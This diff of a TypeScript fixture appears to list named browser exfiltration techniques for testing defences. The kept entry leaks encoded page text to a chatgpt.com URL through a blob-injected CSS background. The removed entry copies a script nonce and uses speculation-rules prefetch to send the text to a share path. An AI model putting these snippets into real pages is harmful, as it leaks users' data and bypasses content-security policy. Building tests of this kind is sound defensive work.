@@ -75,7 +75,4 @@ export const LOADS: Readonly<Record<string, string>> = {
   'a style sheet of a blob': `const rule = 'body { background: url(https://chatgpt.com/x?' + encodeURIComponent(text) + ') }';
     const link = document.createElement('link'); link.rel = 'stylesheet';
     link.href = URL.createObjectURL(new Blob([rule], { type: 'text/css' })); document.head.append(link)`,
-  'rules of speculation': `const script = document.createElement('script'); script.type = 'speculationrules';
-    const urls = ['/share/1?' + encodeURIComponent(text)]; script.nonce = document.querySelector('script')?.nonce ?? '';
-    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls }] }); document.head.append(script)`,
 };
